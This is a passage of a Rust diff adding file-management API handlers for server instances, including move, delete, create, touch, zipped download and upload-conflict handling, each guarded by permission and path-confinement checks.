+                    .context("Failed to read tmp directory")?
+                    .filter_map(|entry| entry.ok().map(|v| v.path()))
+                {
+                    let dest_path =
+                        resolve_path_conflict(path_dest.join(temp_path.file_name().unwrap()), None);
+                    std::fs::rename(temp_path, dest_path).context("Failed to move file")?;
+                }
+                Ok::<(), Error>(())
+            }
+        })
+        .await
+        .context("Failed to spawn blocking task")
+        .map_err(Error::from)
+        .and_then(|result| result);
+
+        let (success, message) = match result {
+            Ok(()) => {
+                timer.set_bytes(total_bytes);
+                timer.succeeded();
+                (true, "File(s) copied successfully".to_string())
+            }
+            Err(e) => {
+                error!("Error copying file(s): {}", e);
+                (false, format!("Error copying file(s): {}", e))
+            }
+        };
+        event_broadcaster.send(fs_operation_end_event(
+            progression_event_id,
+            &uuid,
+            &caused_by,
+            success,
+            message,
+        ));
+    }));
+    Ok(Json(()))
+}
+
+/// Move or rename a file or a directory within the instance
+async fn move_instance_file(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path_source, base64_relative_path_dest)): Path<(
+        InstanceUuid,
+        String,
+        String,
+    )>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(world_query): Query<OpenWorldQuery>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<()>, Error> {
+    let relative_path_source = resolve_relative_path(&base64_relative_path_source, &path_query)?;
+    let relative_path_dest = resolve_relative_path_dest(&base64_relative_path_dest, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    let locked = instance.locked().await;
+    drop(instance);
+    let path_source = scoped_join_win_safe(&root, relative_path_source)?;
+    let path_dest = scoped_join_win_safe(&root, relative_path_dest)?;
+    if locked {
+        check_locked_worlds(
+            &world_dirs(&root).await,
+            [path_source.as_path(), path_dest.as_path()],
+            "moving",
+        )?;
+    }
+    check_world_not_open(
+        &requester,
+        &open_worlds,
+        [path_source.as_path(), path_dest.as_path()],
+        world_query.force,
+        "writing to",
+    )?;
+
+    let relative_path_source = path_source
+        .strip_prefix(&root)
+        .context("Error stripping prefix")?;
+    let relative_path_dest = path_dest
+        .strip_prefix(&root)
+        .context("Error stripping prefix")?;
+
+    check_move_paths(&root, &path_source, &path_dest)?;
+    check_move_writable(
+        &requester,
+        &read_protected_paths(&root).await,
+        &path_source,
+        &path_dest,
+    )
+    .await?;
+    check_not_console_log(&root, &path_source)?;
+    // moving out of a writable path removes the file from there, it is a write too
+    check_in_writable_paths(
+        &requester,
+        &root,
+        [path_source.as_path(), path_dest.as_path()],
+    )
+    .await?;
+
+    let path_dest = resolve_path_conflict(path_dest.to_owned(), None);
+
+    let user_id = requester.uid.clone();
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+
+    match tokio::fs::rename(&path_source, &path_dest).await {
+        Ok(()) => {}
+        // e.g. a mount inside of the instance, the move is a copy that can take a while
+        Err(e) if is_cross_device(&e) => {
+            let event_broadcaster = state.event_broadcaster.clone();
+            let fs_op_limiter = state.fs_op_limiter.clone();
+            let upload_sessions = state.upload_sessions.clone();
+            tokio::spawn(in_current_request(async move {
+                if move_across_devices_and_report(
+                    event_broadcaster.clone(),
+                    fs_op_limiter,
+                    &upload_sessions,
+                    uuid,
+                    user_id,
+                    caused_by.clone(),
+                    path_source.clone(),
+                    path_dest.clone(),
+                )
+                .await
+                .is_ok()
+                {
+                    move_file_annotations(&root, &path_source, &path_dest)
+                        .await
+                        .map_err(Error::log)
+                        .ok();
+                    event_broadcaster.send(new_fs_move_event(path_source, path_dest, caused_by));
+                }
+            }));
+            return Ok(Json(()));
+        }
+        Err(e) => Err(e).context(format!(
+            "Error moving file from {} to {}",
+            relative_path_source.display(),
+            relative_path_dest.display()
+        ))?,
+    }
+
+    move_file_annotations(&root, &path_source, &path_dest)
+        .await
+        .map_err(Error::log)
+        .ok();
+
+    state
+        .event_broadcaster
+        .send(new_fs_move_event(path_source, path_dest, caused_by));
+
+    Ok(Json(()))
+}
+
+/// Whether a rename failed because source and destination are on different filesystems
+fn is_cross_device(e: &std::io::Error) -> bool {
+    // EXDEV and ERROR_NOT_SAME_DEVICE, io::ErrorKind::CrossesDevices isn't stable yet
+    if cfg!(windows) {
+        e.raw_os_error() == Some(17)
+    } else {
+        e.raw_os_error() == Some(18)
+    }
+}
+
+/// Move `path_source` to `path_dest` on another filesystem, copying with progress and removing
+/// the source only once the copy is verified. A failed or cancelled copy leaves the source as it
+/// was
+#[allow(clippy::too_many_arguments)]
+async fn move_across_devices_and_report(
+    event_broadcaster: EventBroadcaster,
+    fs_op_limiter: FsOpLimiter,
+    sessions: &UploadSessions,
+    uuid: InstanceUuid,
+    user_id: UserId,
+    caused_by: CausedBy,
+    path_source: PathBuf,
+    path_dest: PathBuf,
+) -> Result<(), Error> {
+    let total_bytes = {
+        let path_source = path_source.clone();
+        tokio::task::spawn_blocking(move || tree_size([&path_source]).bytes)
+            .await
+            .unwrap_or_default()
+    };
+    let name = path_source
+        .file_name()
+        .map(|name| name.to_string_lossy().to_string())
+        .unwrap_or_default();
+    let (progression_event_start, progression_event_id) = Event::new_progression_event_start(
+        format!("Moving {name}"),
+        Some(total_bytes as f64),
+        None,
+        caused_by.clone(),
+    );
+    let session = sessions.register(progression_event_id.inner(), uuid.clone(), user_id);
+    event_broadcaster.send(progression_event_start);
+    let _permit = match acquire_fs_op_slot(
+        &fs_op_limiter,
+        &event_broadcaster,
+        &progression_event_id,
+        &uuid,
+        &caused_by,
+        &session.cancel,
+    )
+    .await
+    {
+        Ok(permit) => permit,
+        Err(e) => {
+            event_broadcaster.send(fs_operation_end_event(
+                progression_event_id,
+                &uuid,
+                &caused_by,
+                false,
+                format!("Error moving {name}: {e}"),
+            ));
+            return Err(e);
+        }
+    };
+    let mut timer = FsOpTimer::start(FsOpKind::Copy, Some(uuid.clone()));
+
+    let result = tokio::task::spawn_blocking({
+        let event_broadcaster = event_broadcaster.clone();
+        let progression_event_id = progression_event_id.clone();
+        let caused_by = caused_by.clone();
+        let cancel = session.cancel.clone();
+        move || {
+            let mut throttle = ProgressThrottle::new(Some(total_bytes));
+            move_verified(
+                &path_source,
+                &path_dest,
+                |copied, file| {
+                    if let Some(progressed) = throttle.report(copied) {
+                        event_broadcaster.send(
+                            Event::new_progression_event_update(
+                                &progression_event_id,
+                                format!(
+                                    "Copying file {}, {}",
+                                    file.display(),
+                                    format_byte_download(copied, total_bytes)
+                                ),
+                                progressed as f64,
+                            )
+                            .with_caused_by(caused_by.clone()),
+                        );
+                    }
+                },
+                &cancel,
+            )
+        }
+    })
+    .await
+    .context("Failed to spawn blocking task")
+    .map_err(Error::from)
+    .and_then(|result| result);
+
+    let (success, message) = match &result {
+        Ok(moved) => {
+            timer.set_bytes(*moved);
+            timer.succeeded();
+            (true, format!("Moved {name}"))
+        }
+        Err(e) => {
+            error!("Error moving {name}: {e}");
+            (false, format!("Error moving {name}: {e}"))
+        }
+    };
+    event_broadcaster.send(fs_operation_end_event(
+        progression_event_id,
+        &uuid,
+        &caused_by,
+        success,
+        message,
+    ));
+    result.map(|_| ())
+}
+
+async fn remove_instance_file(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(world_query): Query<OpenWorldQuery>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<()>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    let locked = instance.locked().await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    if locked {
+        check_locked_worlds(&world_dirs(&root).await, [path.as_path()], "deleting")?;
+    }
+    check_world_not_open(
+        &requester,
+        &open_worlds,
+        [path.as_path()],
+        world_query.force,
+        "deleting",
+    )?;
+    check_not_console_log(&root, &path)?;
+    // if target has a protected extension, or no extension, deny
+    if is_path_protected_for(&requester, &read_protected_paths(&root).await, &path) {
+        return Err(Error {
+            kind: ErrorKind::PermissionDenied,
+            source: eyre!("File extension is protected"),
+        });
+    }
+
+    crate::util::fs::remove_file(&path).await?;
+    remove_file_annotations(&root, &path)
+        .await
+        .map_err(Error::log)
+        .ok();
+
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Delete,
+        FSTarget::File(path),
+        caused_by,
+    ));
+    Ok(Json(()))
+}
+
+#[derive(Serialize, TS, Debug, PartialEq, Eq)]
+#[ts(export)]
+struct BatchRemoveFailure {
+    path: PathBuf,
+    reason: String,
+}
+
+#[derive(Serialize, TS, Debug, Default, PartialEq, Eq)]
+#[ts(export)]
+struct BatchRemoveSummary {
+    /// relative paths, as requested
+    removed: Vec<PathBuf>,
+    failed: Vec<BatchRemoveFailure>,
+}
+
+/// Remove each file, a failure doesn't stop the others. `files` pairs the requested relative
+/// path with the path joined to the root
+fn remove_files(files: &[(PathBuf, PathBuf)]) -> BatchRemoveSummary {
+    let mut summary = BatchRemoveSummary::default();
+    for (relative_path, path) in files {
+        let removed = if path.is_dir() {
+            Err("Path is a directory".to_string())
+        } else {
+            std::fs::remove_file(path).map_err(|e| e.to_string())
+        };
+        match removed {
+            Ok(()) => summary.removed.push(relative_path.clone()),
+            Err(reason) => summary.failed.push(BatchRemoveFailure {
+                path: relative_path.clone(),
+                reason,
+            }),
+        }
+    }
+    summary
+}
+
+/// Remove several files at once. The whole batch is refused if any of them may not be removed,
+/// the removals themselves are reported one by one
+async fn remove_instance_files_batch(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    Query(world_query): Query<OpenWorldQuery>,
+    AuthBearer(token): AuthBearer,
+    Json(relative_paths): Json<Vec<PathBuf>>,
+) -> Result<Json<BatchRemoveSummary>, Error> {
+    let requester = authorize(&state, &token).await?;
+    let max_paths = state.global_settings.lock().await.max_fs_request_paths();
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    check_source_path_count(&relative_paths, max_paths)?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    let locked = instance.locked().await;
+    drop(instance);
+
+    let mut files: Vec<(PathBuf, PathBuf)> = Vec::with_capacity(relative_paths.len());
+    for relative_path in relative_paths {
+        let path = scoped_join_win_safe(&root, &relative_path)?;
+        ensure_not_instance_root(&root, &path, "remove")?;
+        check_not_console_log(&root, &path)?;
+        if !files.iter().any(|(_, other)| other == &path) {
+            files.push((relative_path, path));
+        }
+    }
+    let paths = || files.iter().map(|(_, path)| path.as_path());
+    if locked {
+        check_locked_worlds(&world_dirs(&root).await, paths(), "deleting")?;
+    }
+    check_world_not_open(
+        &requester,
+        &open_worlds,
+        paths(),
+        world_query.force,
+        "deleting",
+    )?;
+    check_paths_writable(&requester, &read_protected_paths(&root).await, paths())?;
+    check_in_writable_paths(&requester, &root, paths()).await?;
+
+    let summary = {
+        let files = files.clone();
+        tokio::task::spawn_blocking(move || remove_files(&files))
+            .await
+            .context("Failed to remove files")?
+    };
+
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    for (_, path) in files
+        .into_iter()
+        .filter(|(relative_path, _)| summary.removed.contains(relative_path))
+    {
+        remove_file_annotations(&root, &path)
+            .await
+            .map_err(Error::log)
+            .ok();
+        state.event_broadcaster.send(new_fs_event(
+            FSOperation::Delete,
+            FSTarget::File(path),
+            caused_by.clone(),
+        ));
+    }
+    Ok(Json(summary))
+}
+
+async fn remove_instance_dir(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(world_query): Query<OpenWorldQuery>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<()>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    let locked = instance.locked().await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    ensure_not_instance_root(&root, &path, "delete")?;
+    if locked {
+        check_locked_dir_removal(&world_dirs(&root).await, &path).await?;
+    }
+    check_world_not_open(
+        &requester,
+        &open_worlds,
+        [path.as_path()],
+        world_query.force,
+        "deleting",
+    )?;
+    check_not_console_log(&root, &path)?;
+    // if target has a protected extension, or no extension, deny
+    let protected = read_protected_paths(&root).await;
+    if is_path_protected_for(&requester, &protected, &path) {
+        return Err(Error {
+            kind: ErrorKind::PermissionDenied,
+            source: eyre!("File extension is protected"),
+        });
+    }
+
+    if !requester.can_perform_action(&UserAction::WriteGlobalFile) {
+        check_no_protected_files(&protected, &path).await?;
+    }
+    tokio::fs::remove_dir_all(&path)
+        .await
+        .context("Failed to remove directory")?;
+    remove_file_annotations(&root, &path)
+        .await
+        .map_err(Error::log)
+        .ok();
+
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Delete,
+        FSTarget::Directory(path),
+        caused_by,
+    ));
+    Ok(Json(()))
+}
+
+/// Create a file that doesn't exist yet with the given content, unlike a write an existing file
+/// is never overwritten. A file left half written is removed
+async fn create_new_file(path: &std::path::Path, content: &[u8]) -> Result<(), Error> {
+    let mut file = match tokio::fs::OpenOptions::new()
+        .write(true)
+        .create_new(true)
+        .open(path)
+        .await
+    {
+        Ok(file) => file,
+        Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => {
+            return Err(Error {
+                kind: ErrorKind::Conflict,
+                source: eyre!("{} already exists", path.display()),
+            })
+        }
+        Err(e) => {
+            return Err(e)
+                .context(format!("Failed to create file at {}", path.display()))
+                .map_err(Error::from)
+        }
+    };
+    let written = async {
+        file.write_all(content).await?;
+        file.flush().await
+    }
+    .await;
+    if let Err(e) = written {
+        drop(file);
+        tokio::fs::remove_file(path).await.ok();
+        return Err(e)
+            .context(format!("Failed to write to file at {}", path.display()))
+            .map_err(Error::from);
+    }
+    Ok(())
+}
+
+/// Create a new file, populated with the body if there is one
+async fn new_instance_file(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(world_query): Query<OpenWorldQuery>,
+    AuthBearer(token): AuthBearer,
+    body: Bytes,
+) -> Result<Json<()>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    check_world_not_open(
+        &requester,
+        &open_worlds,
+        [path.as_path()],
+        world_query.force,
+        "writing to",
+    )?;
+    // if target has a protected extension, or no extension, deny
+    if is_path_protected_for(&requester, &read_protected_paths(&root).await, &path) {
+        return Err(Error {
+            kind: ErrorKind::PermissionDenied,
+            source: eyre!("File extension is protected"),
+        });
+    }
+    check_in_writable_paths(&requester, &root, [path.as_path()]).await?;
+
+    check_path_length(&path)?;
+    create_new_file(&path, &body).await?;
+
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Create,
+        FSTarget::File(path),
+        caused_by,
+    ));
+    Ok(Json(()))
+}
+
+/// Bump the modification time of a file to now, creating it empty if it doesn't exist.
+/// Returns whether the file was created
+async fn touch_file(path: &std::path::Path) -> Result<bool, Error> {
+    if !path.exists() {
+        crate::util::fs::create(path).await?;
+        return Ok(true);
+    }
+    filetime::set_file_mtime(path, filetime::FileTime::now()).context(format!(
+        "Failed to update modification time of {}",
+        path.display()
+    ))?;
+    Ok(false)
+}
+
+async fn touch_instance_file(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(world_query): Query<OpenWorldQuery>,
+    AuthBearer(token): AuthBearer,
+) -> Result<Json<()>, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::WriteInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    let open_worlds = open_world_dirs(instance.state().await, &root).await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, relative_path)?;
+    check_world_not_open(
+        &requester,
+        &open_worlds,
+        [path.as_path()],
+        world_query.force,
+        "writing to",
+    )?;
+    // if target has a protected extension, or no extension, deny
+    if is_path_protected_for(&requester, &read_protected_paths(&root).await, &path) {
+        return Err(Error {
+            kind: ErrorKind::PermissionDenied,
+            source: eyre!("File extension is protected"),
+        });
+    }
+    check_in_writable_paths(&requester, &root, [path.as_path()]).await?;
+
+    let created = touch_file(&path).await?;
+
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    state.event_broadcaster.send(new_fs_event(
+        if created {
+            FSOperation::Create
+        } else {
+            FSOperation::Write
+        },
+        FSTarget::File(path),
+        caused_by,
+    ));
+    Ok(Json(()))
+}
+
+#[derive(Deserialize, Debug, Clone)]
+struct DownloadQuery {
+    /// download a gzipped file decompressed, on unless the file is wanted as stored
+    #[serde(default = "default_decompress")]
+    decompress: bool,
+}
+
+fn default_decompress() -> bool {
+    true
+}
+
+async fn get_instance_file_url(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path((uuid, base64_relative_path)): Path<(InstanceUuid, String)>,
+    Query(path_query): Query<RelativePathQuery>,
+    Query(download_query): Query<DownloadQuery>,
+    AuthBearer(token): AuthBearer,
+) -> Result<String, Error> {
+    let relative_path = resolve_relative_path(&base64_relative_path, &path_query)?;
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    drop(instance);
+    let path = scoped_join_win_safe(&root, &relative_path)?;
+
+    let downloadable_file = if fs::metadata(&path)
+        .map_err(|_| Error {
+            kind: ErrorKind::NotFound,
+            source: eyre!("Could not read file metadata"),
+        })?
+        .is_dir()
+    {
+        let caused_by = CausedBy::User {
+            user_id: requester.uid.clone(),
+            user_name: requester.username.clone(),
+        };
+        let (start_event, id) = Event::new_progression_event_start(
+            format!("Zipping {} for download", relative_path),
             None,
             None,
-            CausedBy::User {
-                user_id: requester.uid.clone(),
-                user_name: requester.username.clone(),
+            caused_by.clone(),
+        );
+        let res: Result<DownloadableFile, crate::Error> = async {
+            state.event_broadcaster.send(start_event);
+            let lodestone_tmp = path_to_tmp().clone();
+            let temp_dir =
+                tempfile::tempdir_in(lodestone_tmp).context("Failed to create temporary file")?;
+            let mut temp_file_path: PathBuf = temp_dir.path().into();
+            temp_file_path.push(path.file_name().ok_or_else(|| Error {
+                kind: ErrorKind::NotFound,
+                source: eyre!("Could not read file name"),
+            })?);
+            temp_file_path.set_extension("zip");
+            let files = Vec::from([path.clone()]);
+            zip_files(&files, temp_file_path.clone(), true).context("Failed to zip file")?;
+            Ok(DownloadableFile::ZippedFile((temp_file_path, temp_dir)))
+        }
+        .await;
+        if let Err(e) = res {
+            let end_event = Event::new_progression_event_end(id, false, Some(e.to_string()), None)
+                .with_caused_by(caused_by);
+            state.event_broadcaster.send(end_event);
+            return Err(e);
+        }
+        let end_event = Event::new_progression_event_end(id, true, Some("Zipping complete"), None)
+            .with_caused_by(caused_by);
+        state.event_broadcaster.send(end_event);
+        res.unwrap()
+    } else if download_query.decompress && is_gzipped(&path) {
+        let temp_dir =
+            tempfile::tempdir_in(path_to_tmp()).context("Failed to create temporary file")?;
+        let decompressed = temp_dir.path().join(path.file_stem().ok_or_else(|| Error {
+            kind: ErrorKind::NotFound,
+            source: eyre!("Could not read file name"),
+        })?);
+        gunzip_file(&path, &decompressed).await?;
+        DownloadableFile::DecompressedFile((decompressed, temp_dir))
+    } else {
+        DownloadableFile::NormalFile(path.clone())
+    };
+
+    let key = rand_alphanumeric(32);
+
+    state
+        .download_urls
+        .lock()
+        .await
+        .insert(key.clone(), downloadable_file.into());
+
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    state.event_broadcaster.send(new_fs_event(
+        FSOperation::Download,
+        FSTarget::File(path),
+        caused_by,
+    ));
+    Ok(key)
+}
+
+#[derive(Deserialize, TS)]
+#[ts(export)]
+struct DownloadSelectionRequest {
+    relative_paths: Vec<PathBuf>,
+}
+
+/// Resolve the selected paths against the instance root, skipping anything
+/// that escapes the root, doesn't exist, can't be opened, or is already covered by another selected directory
+fn readable_selection(root: &std::path::Path, relative_paths: &[PathBuf]) -> Vec<PathBuf> {
+    let mut paths: Vec<PathBuf> = relative_paths
+        .iter()
+        .filter_map(|p| scoped_join_win_safe(root, p).ok())
+        .filter(|p| p != root)
+        .filter(|p| {
+            if p.is_dir() {
+                fs::read_dir(p).is_ok()
+            } else {
+                fs::File::open(p).is_ok()
+            }
+        })
+        .collect();
+    paths.sort();
+    paths.dedup();
+    let selected_dirs: Vec<PathBuf> = paths.iter().filter(|p| p.is_dir()).cloned().collect();
+    paths.retain(|p| {
+        !selected_dirs
+            .iter()
+            .any(|dir| p != dir && p.starts_with(dir))
+    });
+    paths
+}
+
+/// Sends what is written to it as the chunks of a streamed response, writes fail once the
+/// client went away
+struct ResponseWriter {
+    tx: tokio::sync::mpsc::Sender<std::io::Result<Bytes>>,
+    buf: Vec<u8>,
+}
+
+impl ResponseWriter {
+    fn new(tx: tokio::sync::mpsc::Sender<std::io::Result<Bytes>>) -> Self {
+        Self {
+            tx,
+            buf: Vec::with_capacity(READ_STREAM_CHUNK_SIZE),
+        }
+    }
+
+    fn send_buffered(&mut self) -> std::io::Result<()> {
+        if self.buf.is_empty() {
+            return Ok(());
+        }
+        let chunk = std::mem::replace(&mut self.buf, Vec::with_capacity(READ_STREAM_CHUNK_SIZE));
+        self.tx
+            .blocking_send(Ok(Bytes::from(chunk)))
+            .map_err(|_| std::io::Error::new(std::io::ErrorKind::BrokenPipe, "Client went away"))
+    }
+}
+
+impl std::io::Write for ResponseWriter {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        self.buf.extend_from_slice(buf);
+        if self.buf.len() >= READ_STREAM_CHUNK_SIZE {
+            self.send_buffered()?;
+        }
+        Ok(buf.len())
+    }
+
+    fn flush(&mut self) -> std::io::Result<()> {
+        self.send_buffered()
+    }
+}
+
+/// Zip of the selected paths, streamed to the client as it is written
+async fn download_instance_selection(
+    axum::extract::State(state): axum::extract::State<AppState>,
+    Path(uuid): Path<InstanceUuid>,
+    AuthBearer(token): AuthBearer,
+    Json(DownloadSelectionRequest { relative_paths }): Json<DownloadSelectionRequest>,
+) -> Result<([(HeaderName, &'static str); 2], StreamBody<ReadStream>), Error> {
+    let requester = authorize(&state, &token).await?;
+    requester.try_action(&UserAction::ReadInstanceFile(uuid.clone()))?;
+    let instance = state.instances.get(&uuid).ok_or_else(|| Error {
+        kind: ErrorKind::NotFound,
+        source: eyre!("Instance not found"),
+    })?;
+    let root = instance.path().await;
+    drop(instance);
+
+    let paths = readable_selection(&root, &relative_paths);
+    if paths.is_empty() {
+        return Err(Error {
+            kind: ErrorKind::BadRequest,
+            source: eyre!("None of the selected paths can be read"),
+        });
+    }
+
+    let caused_by = CausedBy::User {
+        user_id: requester.uid.clone(),
+        user_name: requester.username.clone(),
+    };
+    let (start_event, id) = Event::new_progression_event_start(
+        format!("Zipping {} selected file(s) for download", paths.len()),
+        None,
+        None,
+        caused_by.clone(),
+    );
+    state.event_broadcaster.send(start_event);
+    for path in paths.iter() {
+        let target = if path.is_dir() {
+            FSTarget::Directory(path.clone())
+        } else {
+            FSTarget::File(path.clone())
+        };
+        state.event_broadcaster.send(new_fs_event(
+            FSOperation::Download,
+            target,
+            caused_by.clone(),
+        ));
+    }
+
+    let (tx, rx) = tokio::sync::mpsc::channel(4);
+    let event_broadcaster = state.event_broadcaster.clone();
+    tokio::task::spawn_blocking(move || {
+        let zipped = write_zip_stream(
+            &paths,
+            &root,
+            ResponseWriter::new(tx.clone()),
+            &mut |_| {},
+            &CancellationToken::new(),
+        );
+        let end_event = match zipped {
+            Ok(_) => Event::new_progression_event_end(id, true, Some("Zipping complete"), None),
+            Err(e) => {
+                // the client sees the download fail rather than a truncated archive
+                tx.blocking_send(Err(std::io::Error::new(
+                    std::io::ErrorKind::Other,
+                    e.to_string(),
+                )))
+                .ok();
+                Event::new_progression_event_end(id, false, Some(e.to_string()), None)
+            }
+        };
+        event_broadcaster.send(end_event.with_caused_by(caused_by));
+    });
+    Ok((
+        [
+            (CONTENT_TYPE, "application/zip"),
+            (
+                CONTENT_DISPOSITION,
+                "attachment; filename=\"selection.zip\"",
+            ),
+        ],
+        StreamBody::new(tokio_stream::wrappers::ReceiverStream::new(rx).boxed()),
+    ))
+}
+
+/// What to do when an uploaded file already exists, set through the `x-on-conflict` header
+#[derive(Deserialize, Serialize, TS, Debug, Clone, Copy, PartialEq, Eq, Default)]
+#[serde(rename_all = "lowercase")]
+#[ts(export)]
+pub enum UploadConflictPolicy {
+    /// keep both files by suffixing the new one with `_N`
+    #[default]
+    Rename,
+    Overwrite,
+    Fail,
+}
+
+impl std::str::FromStr for UploadConflictPolicy {
+    type Err = Error;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        match s.trim().to_ascii_lowercase().as_str() {
+            "rename" => Ok(UploadConflictPolicy::Rename),
+            "overwrite" => Ok(UploadConflictPolicy::Overwrite),
+            "fail" => Ok(UploadConflictPolicy::Fail),
+            other => Err(Error {
+                kind: ErrorKind::BadRequest,
+                source: eyre!(
+                    "Invalid conflict policy {other}, expected one of rename, overwrite, fail"
+                ),
+            }),
+        }
+    }
+}
+
+static ON_CONFLICT_HEADER: &str = "x-on-conflict";
+
+static CASE_INSENSITIVE_HEADER: &str = "x-case-insensitive";
+
+/// Entry of the directory of `path` with the same name ignoring case, `path` itself if it exists
+fn find_case_insensitive_match(path: &std::path::Path) -> Option<PathBuf> {
+    if path.exists() {
+        return Some(path.to_path_buf());
+    }
+    let name = path.file_name()?.to_string_lossy().to_lowercase();
+    std::fs::read_dir(path.parent()?)
+        .ok()?
+        .filter_map(|entry| entry.ok())
+        .find(|entry| entry.file_name().to_string_lossy().to_lowercase() == name)
+        .map(|entry| entry.path())
+}
+
+/// Where an uploaded file is written. With `case_insensitive`, a file whose name only differs
+/// by case counts as a conflict, and is the one overwritten
+fn upload_destination(
+    path: PathBuf,
+    on_conflict: UploadConflictPolicy,
+    case_insensitive: bool,
+) -> Result<PathBuf, Error> {
+    let existing = if case_insensitive {
+        find_case_insensitive_match(&path)
+    } else {
+        path.exists().then(|| path.clone())
+    };
+    let Some(existing) = existing else {
+        return Ok(path);
+    };
+    match on_conflict {
+        UploadConflictPolicy::Rename if case_insensitive => Ok(resolve_path_conflict(
+            path,
+            Some(&|p| find_case_insensitive_match(p).is_some()),
+        )),
+        UploadConflictPolicy::Rename => Ok(resolve_path_conflict(path, None)),
+        UploadConflictPolicy::Overwrite if existing.is_dir() => Err(Error {
+            kind: ErrorKind::Conflict,
+            source: eyre!(
+                "Cannot overwrite directory {} with a file",
+                existing.file_name().unwrap_or_default().to_string_lossy()
+            ),
+        }),
+        UploadConflictPolicy::Overwrite => Ok(existing),
+        UploadConflictPolicy::Fail => Err(Error {
+            kind: ErrorKind::Conflict,
+            source: eyre!(
+                "File {} already exists",
+                existing.file_name().unwrap_or_default().to_string_lossy()
+            ),
+        }),
+    }
+}
+
+/// The checks an upload passed under the name it was sent with, run again on the file a
+/// case-insensitive conflict resolved it to, e.g. `SERVER.JAR` overwriting `server.jar`
+async fn check_upload_destination(
+    requester: &User,
+    root: &std::path::Path,
+    protected: &ProtectedPaths,
+    open_worlds: &[PathBuf],
+    locked_worlds: &[PathBuf],
+    force: bool,
+    path: &std::path::Path,
+) -> Result<(), Error> {
+    if is_path_protected_for(requester, protected, path) {
+        return Err(Error {
